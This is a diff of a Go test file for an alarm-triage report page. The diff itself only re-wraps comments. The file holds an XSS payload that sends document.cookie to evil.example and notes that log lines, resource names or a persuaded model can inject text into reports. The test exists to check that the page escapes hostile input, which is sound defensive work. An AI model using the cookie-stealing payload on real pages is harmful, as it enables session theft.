@@ -21,8 +21,8 @@ import (
 	"github.com/cloudwatch-alarm-triage/alarmtriage/internal/report"
 )
 
-// Anybody who can write a log line, name a resource, or persuade a model can write into a report. Each of these texts is
-// put into every text field of a record at once. payload is the script that it tries to run.
+// Anybody who can write a log line, name a resource, or persuade a model can write into a report. Each of
+// these texts is put into every text field of a record at once. payload is the script that it tries to run.
 const payload = `window.ran=1;alert(document.domain);fetch('https://evil.example/?'+document.cookie)`
 
 var hostile = []struct {
@@ -100,8 +100,8 @@ var hostile = []struct {
 // marks maps the marks that identify a record's texts on the page to their fields.
 type marks map[string]string
 
-// filled returns a record in which each text is a mark followed by text. Every list has several elements, one for each
-// case that the page distinguishes.
+// filled returns a record in which each text is a mark followed by text. Every list has several elements,
+// one for each case that the page distinguishes.
 func filled(text string) (*investigation.Record, marks) {
 	rec, marked := &investigation.Record{}, marks{}
 	fill(reflect.ValueOf(rec).Elem(), "", text, marked)
@@ -227,7 +227,8 @@ const takeSkeleton = `(() => {
 		Ran: 'ran' in window, Scripts: document.scripts.length};
 })()`
 
-// byText lists the elements that depend on the lines and marks of a text; itemOfProse is the class of one of them.
+// byText lists the elements that depend on the lines and marks of a text; itemOfProse is the class of one
+// of them.
 var byText = []string{"p", "strong", "code", "pre", "span", "mark"}
 
 const itemOfProse = "item"
